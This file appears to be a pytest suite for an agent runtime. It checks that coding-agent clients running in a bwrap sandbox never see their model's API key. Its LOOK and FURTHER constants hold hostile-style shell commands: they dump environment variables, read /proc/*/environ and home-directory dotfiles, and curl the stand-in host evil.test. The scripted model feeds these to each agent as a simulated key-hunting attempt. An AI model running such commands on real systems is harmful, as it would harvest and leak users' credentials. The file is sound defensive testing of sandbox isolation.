"""Real clients in a sandbox: the key of the model is with the runtime, and nothing that an agent starts has it."""

import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.clients.conftest import client, thorough
from tests.clients.sessions import CLIENTS, KEY, Ended, run, write_project
from tests.commands import wave_runtime
from tests.model_server import Script, ToolCall, Turn

LOOK = "env; curl -sS --max-time 10 http://evil.test/ https://evil.test/; echo loo''ked"
FURTHER = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat ~/.*/* ~/.*.json 2>/dev/null | head -c 9000; "
FINDINGS = '{"findings": []}'


@dataclass(frozen=True)
class Tools:
    """How a model asks this client for a shell and for a file."""

    shell: Callable[[str], ToolCall]
    report: ToolCall
    accept: tuple[str, ...] = ()
    """What the step accepts of the client."""
    look: str = FURTHER + LOOK


TOOLS = {
    "claude": Tools(
        lambda command: ToolCall("Bash", {"command": command, "description": "x"}),
        ToolCall("Write", {"file_path": "out/report.json", "content": FINDINGS}),
    ),
    "codex": Tools(
        lambda command: ToolCall("exec_command", {"cmd": command}),
        ToolCall(
            "apply_patch",
            {"input": f"*** Begin Patch\n*** Add File: out/report.json\n+{FINDINGS}\n*** End Patch"},
        ),
        ("typed-input", "reads-by-shell"),
    ),
    "gemini": Tools(
        lambda command: ToolCall("run_shell_command", {"command": command}),
        ToolCall("write_file", {"file_path": "out/report.json", "content": FINDINGS}),
    ),
    "opencode": Tools(
        lambda command: ToolCall("bash", {"command": command, "description": "x"}),
        ToolCall("write", {"filePath": "out/report.json", "content": FINDINGS}),
        look=LOOK,  # it lets no command name a folder outside
    ),
}
CASES = [
    ("claude", "ns", "none"),
    pytest.param("claude", "ns", "open", marks=thorough),
    pytest.param("claude", "ns", "[example.com]", marks=thorough),
    pytest.param("claude", "lsm", "none", marks=thorough),
    ("codex", "ns", "none"),
    pytest.param("codex", "lsm", "none", marks=thorough),
    pytest.param("gemini", "ns", "none", marks=thorough),
    pytest.param("opencode", "ns", "none", marks=thorough),
]


@pytest.fixture(scope="module", autouse=True)
def _namespaces() -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("`bwrap` is not on the PATH")
    command = ["bwrap", "--unshare-user", "--unshare-net", "--ro-bind", "/", "/", "true"]
    ended = subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)
    if ended.returncode:
        pytest.skip(f"there are no namespaces for bwrap: {ended.stderr.strip()}")


def look_around(project: Path, name: str, level: str, network: str) -> tuple[Script, Ended]:
    """A session that looks for the key, and then does its work."""
    tools = TOOLS[name]
    step = f"    sandbox: {{level: {level}, network: {network}}}\n"
    write_project(project, ["Bash", "Write(out/*)"], client=name, accept=list(tools.accept), step=step)
    turns = [Turn(calls=(tools.shell(tools.look),)), Turn(calls=(tools.report,)), Turn(text="It is done.")]
    script = Script(turns)
    return script, run(project, script, client(name))


@pytest.mark.parametrize(("name", "level", "network"), CASES)
def test_an_agent_never_sees_the_key_of_its_model(tmp_path: Path, name: str, level: str, network: str) -> None:
    script, ended = look_around(tmp_path, name, level, network)
    assert ended.code == 0, ended.said
    headers = [{field.lower(): value for field, value in request.headers.items()} for request in script.requests]
    assert all(KEY in " ".join(fields.values()) for fields in headers)
    told = json.dumps([request.body for request in script.requests])
    assert "looked" in told
    assert KEY not in told
    (attempt,) = ended.attempts
    variable = CLIENTS[name].key
    assert attempt["network"]["keys_outside"] == [variable]
    (sandboxed,) = [event for event in ended.events if event["type"] == "sandboxed"]
    assert [each["by"] for each in sandboxed["guarantees"] if each["name"] == "keys"] == [f"gateway for {variable}"]
    contacted = attempt["network"]["contacted"]
    (model,) = [one for one in contacted if one["kind"] == "model"]
    assert (model["host"], model["verdict"]) == ("127.0.0.1", "allowed")
    assert model["connections"] >= len(script.requests)
    others = {one["verdict"] for one in contacted if one["kind"] != "model"}
    assert others <= {"refused"}
    if network != "open" and level == "ns":
        assert ("evil.test", "refused") in [(one["host"], one["verdict"]) for one in contacted]
    kept = [path for path in (tmp_path / ".wave").rglob("*") if path.is_file()]
    assert [path for path in kept if KEY.encode() in path.read_bytes()] == []
    assert KEY not in wave_runtime("events", "it", cwd=tmp_path).stdout
    why = wave_runtime("why", "it", "review", cwd=tmp_path).stdout
    assert f"  keys that it did not get: {variable}" in why
